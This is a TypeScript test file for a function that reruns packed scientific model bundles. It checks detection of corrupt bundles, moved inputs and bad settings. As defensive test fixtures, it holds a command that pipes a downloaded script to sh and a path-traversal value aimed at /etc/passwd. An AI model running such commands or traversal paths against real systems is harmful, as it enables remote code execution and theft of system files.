import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadCase } from '../../../case';
import { writeDemoWorld } from '../../../worlds/demo-world';
import { pack } from './archive';
import { reproduceBundle, type MovedInputs } from './reproduce';

const folder = mkdtempSync(join(tmpdir(), 'retroplume-reproduce-'));
afterAll(() => rmSync(folder, { recursive: true }));

const input = { path: '/in.nc', sha256: '', bytes: 1, packed: false };
const product = { ...input, path: 'train/weights', stage: 'train' };
const whole = { format: 1, run: { case: {}, versions: {} }, files: [product], inputs: [input] };

it.each([
  ['no versions', { run: { case: {} } }],
  ['no product', { files: [] }],
  ['a product that is nothing', { files: [product, null] }],
  ['a product without a name', { files: [{ ...product, path: 5 }] }],
  ['an input without a name', { inputs: [{ ...input, path: undefined }] }],
])('says that a bundle is damaged whose own description has %s', async (_, changed) => {
  const [file, out] = ['mine.tar.gz', 'again'].map((name) => join(folder, name));
  await pack([{ name: 'mine/bundle.json', source: Buffer.from(JSON.stringify({ ...whole, ...changed })) }], file);
  await expect(reproduceBundle(file, { out })).rejects.toMatchObject({
    code: 'BUNDLE_CORRUPT',
    message: `${file}: its bundle.json is not whole: it is no bundle or is damaged: copy or make it again`,
  });
  expect(existsSync(out)).toBe(false);
});

describe('inputs that lie elsewhere now', () => {
  const sha256 = createHash('sha256').update('x').digest('hex');
  const at = (...path: string[]): string => join(folder, ...path);
  const there = { from: '/data', to: at('there') };
  const inner = { from: '/data/weather', to: at('weather') };
  const inputs = ['/data/EMIS.nc', '/data/weather/MET.nc'].map((path) => ({ ...input, path, sha256 }));
  const reproduce = (moved: MovedInputs[]): Promise<unknown> => reproduceBundle(at('moved.tar.gz'), { out: at('moved-again'), inputs: moved });
  beforeAll(async () => {
    mkdirSync(at('there'));
    writeFileSync(at('there/EMIS.nc'), 'x');
    await pack([{ name: 'moved/bundle.json', source: Buffer.from(JSON.stringify({ ...whole, files: [product], inputs })) }], at('moved.tar.gz'));
  });

  it.each([
    ['first', [there, inner]],
    ['last', [inner, there]],
  ])('are looked for below each folder that is named, below the innermost where it stands %s', async (_, moved) => {
    await expect(reproduce(moved)).rejects.toMatchObject({
      code: 'BUNDLE_INPUT_DIFFERS',
      message: expect.stringMatching(`^${at('weather/MET.nc')}: not there`) as string,
    });
  });

  it.each([
    [
      'another place',
      [there, { ...there, to: '/x' }],
      /^--inputs \/data=.*there: there is another place for what was below \/data: leave one of them out$/,
    ],
    ['no input', [there, { from: '/none', to: '/x' }], /^--inputs \/none=\/x: none of the 2 inputs of the bundle was below \/none: /],
  ])('have one place each: %s', async (_, moved, message) => {
    await expect(reproduce(moved)).rejects.toMatchObject({ code: 'REPRODUCE_INPUTS', message: expect.stringMatching(message) as string });
  });
});

it.each([NaN, -1])('refuses a tolerance of %d, which everything or nothing would keep', async (tolerance) => {
  const call = reproduceBundle(join(folder, 'none.tar.gz'), { out: join(folder, 'again'), tolerance });
  await expect(call).rejects.toMatchObject({
    code: 'CALL_INVALID',
    message: expect.stringContaining('tolerance: expected a number of at least 0') as string,
  });
});

it("shows the command of a bundle, which is somebody else's, and runs it when that is agreed to alone", async () => {
  const [file, out] = [join(folder, 'command.tar.gz'), join(folder, 'commanded')];
  const ctm = { kind: 'command', command: 'curl -s example.org | sh; run_cmaq.sh {output}' };
  const described = { ...whole, run: { case: { ctm }, versions: {} }, files: [{ ...product, packed: false }] };
  await pack([{ name: 'mine/bundle.json', source: Buffer.from(JSON.stringify(described)) }], file);
  await expect(reproduceBundle(file, { out })).rejects.toMatchObject({
    code: 'REPRODUCE_COMMAND',
    message: expect.stringMatching(
      /command\.tar\.gz: its case runs a command of whoever made it.*: curl -s example\.org \| sh; run_cmaq\.sh \{output\}: /,
    ) as string,
  });
  expect(existsSync(out)).toBe(false);
  // Then it looks for the inputs.
  await expect(reproduceBundle(file, { out, runCommand: true })).rejects.toMatchObject({ code: 'BUNDLE_INPUT_DIFFERS' });
});

it('takes no input from outside of a bundle that holds its inputs', async () => {
  const [file, out] = [join(folder, 'outside.tar.gz'), join(folder, 'led-outside')];
  const held = { path: '/in.nc', bytes: 1, packed: true, sha256: createHash('sha256').update('x').digest('hex') };
  const { file: _, ...settings } = loadCase(
    await writeDemoWorld(join(folder, 'world'), { rows: 12, cols: 12, hours: 100, spinUpHours: 72, stations: 12 }),
  );
  settings.grid.griddesc = '/../../../../../../../../../../../etc/passwd';
  const described = { ...whole, run: { case: settings, versions: {} }, files: [{ ...product, packed: false }], inputs: [held] };
  const files = { 'bundle.json': JSON.stringify(described), 'inputs/in.nc': 'x' };
  await pack(
    Object.entries(files).map(([name, text]) => ({ name: `mine/${name}`, source: Buffer.from(text) })),
    file,
  );
  await expect(reproduceBundle(file, { out })).rejects.toMatchObject({
    code: 'BUNDLE_CORRUPT',
    message: expect.stringMatching(/the case names \/\.\..*\/etc\/passwd, which is not in the bundle/) as string,
  });
});
